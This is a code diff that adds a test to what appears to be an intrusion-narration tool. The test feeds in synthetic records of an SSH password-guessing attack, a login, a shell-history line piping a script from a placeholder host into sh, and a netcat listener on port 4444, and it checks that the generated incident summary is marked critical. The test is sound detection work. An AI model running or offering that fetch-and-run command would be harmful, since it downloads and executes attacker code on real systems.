@@ -60,6 +60,38 @@ describe('the story of a break-in', () => {
   });
 });
 
+describe('the story of a break-in, with what was done inside', () => {
+  it('is told from the log of sshd, a shell history and the sockets of the node', () => {
+    const at = (seconds: number) => Date.UTC(2026, 0, 10, 3) / 1000 + seconds;
+    const listener = (seconds: number, more: object) =>
+      JSON.stringify({
+        event: 'listener_opened',
+        time_us: at(seconds) * 1_000_000,
+        'network.transport': 'tcp',
+        'server.address': '0.0.0.0',
+        ...more,
+      });
+    const before = { 'event.reason': 'at_start', 'server.port': 22, 'process.name': 'sshd' };
+    const records = [
+      ...recordsOf(listener(-2 * 86_400, before), 'sockets', 'tom-note'),
+      ...recordsOf(
+        [
+          ...failures('203.0.113.9', 'pi', { count: 212, every: 2.55, from: 180 }),
+          accepted(723, '203.0.113.9', 'pi'),
+        ].join('\n'),
+      ),
+      ...recordsOf(`#${at(740)}\ncurl -fsSL http://192.0.2.50/a.sh | sh`, '/home/pi/.bash_history'),
+      ...recordsOf(listener(760, { 'server.port': 4444, 'process.name': 'nc' }), 'sockets', 'tom-note'),
+    ];
+    const story = tell(records).incidents.find(({ success }) => success)!;
+    expect(story.summary).toBe(
+      '203.0.113.9 tried 212 passwords on node2 over 9 minutes, then logged in as pi at 03:12, ' +
+        'ran `curl -fsSL http://192.0.2.50/a.sh | sh`, a new listener on :4444 appeared.',
+    );
+    expect(story.level).toBe('critical');
+  });
+});
+
 describe('what nobody detects and the records tell', () => {
   it('is a login by an address that knocked, also as an account that it did not try', () => {
     const log = [
